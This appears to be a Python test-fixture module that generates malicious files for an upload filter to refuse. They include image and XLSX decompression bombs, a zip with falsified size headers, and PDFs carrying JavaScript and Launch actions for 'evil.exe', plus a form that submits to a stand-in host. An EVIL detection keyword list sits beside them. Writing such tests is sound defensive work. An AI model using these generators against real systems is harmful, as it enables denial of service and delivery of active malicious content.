"""Files that cost whoever opens them far more than whoever sent them, made on the spot: the same bytes for the same seed.

`PICTURES`, `WORKBOOKS` and `PAPERS` make each kind by its name. None of them does harm where it is only kept.
"""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image

Makers = dict[str, Callable[[], bytes]]
_AHEAD = b"%%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R%s>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
_PAGE = b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]%s>>endobj\n"


def saved(picture: Image.Image, kind: str, **how: object) -> bytes:
    file = io.BytesIO()
    picture.save(file, kind, **how)
    return file.getvalue()


def many_scans(scans: int = 101, size: tuple[int, int] = (8000, 7400)) -> bytes:
    """A grey progressive JPEG whose last way through the picture comes again and again, at 110 bytes a time."""
    data = saved(Image.new("L", size, 128), "JPEG", progressive=True)
    last = data.rindex(b"\xff\xda")
    return data[:-2] + data[last:-2] * scans + data[-2:]


def png(width: int, height: int, *, colours: int = 6, chunks: bytes = b"") -> bytes:
    """A PNG of nothing but zeros (RGBA by default), with other parts before its pixels."""
    channels = {2: 3, 6: 4}[colours]
    packer, row = zlib.compressobj(9), bytes(1 + width * channels)
    pixels = b"".join([*(packer.compress(row) for _ in range(height)), packer.flush()])
    head = struct.pack(">IIBBBBB", width, height, 8, colours, 0, 0, 0)
    parts = png_part(b"IHDR", head) + chunks + png_part(b"IDAT", pixels) + png_part(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + parts


def png_part(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


PICTURES: Makers = {  # every one must be refused
    "many scans": lambda: many_scans(2500, (3000, 2000)),
    "many scans of 59 million pixels": many_scans,
    "progressive CMYK of 16 million pixels": lambda: _blank("CMYK", 4000, 4000, "JPEG", progressive=True),
    "RGBA of 25 million pixels": lambda: png(5000, 5000),
    "packed text": lambda: png(20, 20, chunks=png_part(b"zTXt", b"Comment\0\0" + _packed(bytes(60_000_000))) * 20),
    "a hundred thousand parts": lambda: png(20, 20, chunks=png_part(b"abCd", b"") * 100_000),
    "WebP of 25 million pixels": lambda: _blank("RGBA", 5000, 5000, "WEBP", lossless=True),
    "moving WebP": lambda: _moving(60),
}


def _blank(mode: str, width: int, height: int, kind: str, **how: object) -> bytes:
    return saved(Image.new(mode, (width, height)), kind, **how)


def _moving(frames: int) -> bytes:
    first, *others = (Image.new("RGB", (900, 900), (shade, 0, 0)) for shade in range(frames))
    return saved(first, "WEBP", save_all=True, append_images=others)


def workbook(
    sheet: str | bytes, *, shared: bytes = b"", more: Callable[[zipfile.ZipFile], object] | None = None
) -> bytes:
    """A workbook with one sheet that is written here in XML."""
    parts = {
        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        "_rels/.rels": _relations("officeDocument", "xl/workbook.xml"),
        "xl/workbook.xml": f'<workbook xmlns="{_MAIN}" xmlns:r="{_OFFICE}"><sheets>'
        '<sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": _relations("worksheet", "worksheets/sheet1.xml"),
        "xl/worksheets/sheet1.xml": sheet,
    }
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
        if shared:
            archive.writestr("xl/sharedStrings.xml", shared)
        if more:
            more(archive)
    return file.getvalue()


_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _relations(kind: str, target: str) -> str:
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return f'<Relationships xmlns="{space}"><Relationship Id="rId1" Type="{_OFFICE}/{kind}" Target="{target}"/></Relationships>'


def cells(*placed: str) -> str:
    """A sheet with the value 1 in each of the places."""
    rows = "".join(f'<row r="{"".join(filter(str.isdigit, at))}"><c r="{at}"><v>1</v></c></row>' for at in placed)
    return f'<worksheet xmlns="{_MAIN}"><sheetData>{rows}</sheetData></worksheet>'


def two_cells() -> bytes:
    """A1 and the last cell there can be: a rectangle of 17 thousand million cells in less than 2 KB."""
    return workbook(cells("A1", "XFD1048576"))


def lying(data: bytes, said: int = 100) -> bytes:
    """The same zip, whose every header says that its part unpacks to `said` bytes."""
    changed, size = bytearray(data), struct.pack("<I", said)
    for mark, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        found = data.find(mark)
        while found >= 0:
            changed[found + at : found + at + 4] = size
            found = data.find(mark, found + 4)
    return bytes(changed)


def bomb(size: int = 90_000_000) -> bytes:
    """Texts that unpack to a thousand times what they take."""
    return workbook(cells("A1"), shared=b"<sst>" + bytes(size))


def many_parts(parts: int = 6000) -> bytes:
    return workbook(cells("A1"), more=lambda book: [book.writestr(f"x/{n}", b"") for n in range(parts)])


WORKBOOKS: Makers = {  # every one must be refused
    "two cells": two_cells,
    "far column": lambda: workbook(cells("A1", "XFD2000")),
    "unpacks to 90 million bytes": bomb,
    "and says it is small": lambda: lying(bomb()),
    "thousands of parts": many_parts,
}


EVIL = (b"JavaScript", b"app.alert", b"Launch", b"evil", b"SubmitForm", b"EmbeddedFile", b"PK\x03\x04", b"/URI")


def paper(catalogue: bytes = b"", *, page: bytes = b"", more: bytes = b"") -> bytes:
    """One page with what is asked for beside it."""
    return _AHEAD % catalogue + _PAGE % page + more + b"trailer<</Root 1 0 R>>\n%%EOF\n"


def chain(length: int) -> bytes:
    """A page whose resources lead from one object to the next, and so on."""
    steps = b"".join(b"%d 0 obj<</Next %d 0 R>>endobj\n" % (n, n + 1) for n in range(10, 10 + length))
    return paper(page=b"/Resources 10 0 R", more=steps + b"%d 0 obj<<>>endobj\n" % (10 + length))


def with_packed_objects(content: bytes) -> bytes:
    """The action on opening is object 5 and stands in a packed stream of objects."""
    packed = _packed(b"5 0 " + content)
    stream = b"4 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(packed)
    ahead = _AHEAD % b"/OpenAction 5 0 R" + _PAGE % b"" + stream + packed + b"\nendstream endobj\n"
    return ahead + _cross_references(ahead)


def _packed(content: bytes) -> bytes:
    return zlib.compress(content, 1)


def _cross_references(ahead: bytes) -> bytes:
    places = [ahead.index(b"%d 0 obj" % number) for number in (1, 2, 3, 4)]
    rows = [struct.pack(">BIB", 0, 0, 255), *(struct.pack(">BIB", 1, at, 0) for at in places)]
    rows += [struct.pack(">BIB", 2, 4, 0), struct.pack(">BIB", 1, len(ahead), 0)]
    content = b"".join(rows)
    head = b"6 0 obj<</Type/XRef/Size 7/W[1 4 1]/Root 1 0 R/Length %d>>stream\n" % len(content)
    return head + content + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % len(ahead)


NOISE = random.Random(1).randbytes(1000)
PAPERS: Makers = {  # each is refused, or comes out with nothing but its page
    "script by escapes": lambda: paper(b"/Open#41ction<</S/Java#53cript/J#53(app.alert(1))>>"),
    "script in packed objects": lambda: with_packed_objects(b"<</S/JavaScript/JS(app.alert(1))>>"),
    "starts a program": lambda: paper(b"/OpenAction<</S/Launch/F(evil.exe)>>"),
    "page that starts a program": lambda: paper(page=b"/AA<</O<</S/Launch/F(evil.exe)>>>>"),
    "sends itself": lambda: paper(b"/OpenAction<</S/SubmitForm/F(http://evil.example/)>>"),
    "link": lambda: paper(page=b"/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(http://evil.example/)>>>>]"),
    "file inside": lambda: paper(
        b"/Names<</EmbeddedFiles<</Names[(evil.exe)<</Type/Filespec/F(evil.exe)/EF<</F 4 0 R>>>>]>>>>",
        more=b"4 0 obj<</Type/EmbeddedFile/Length 1000>>stream\n" + NOISE + b"\nendstream endobj\n",
    ),
    "zip behind it": lambda: paper() + workbook(cells("A1")) + b"%%EOF",
    "hundred thousand brackets": lambda: paper(page=b"/Resources " + b"[" * 100_000 + b"]" * 100_000),
    "thirty thousand steps": lambda: chain(30_000),
    "objects that unpack to 100 million bytes": lambda: with_packed_objects(bytes(100_000_000)),
    "page in a circle": lambda: paper().replace(b"/Kids[3 0 R]", b"/Kids[2 0 R]"),
    "million pages said": lambda: paper().replace(b"/Count 1", b"/Count 1000000"),
}
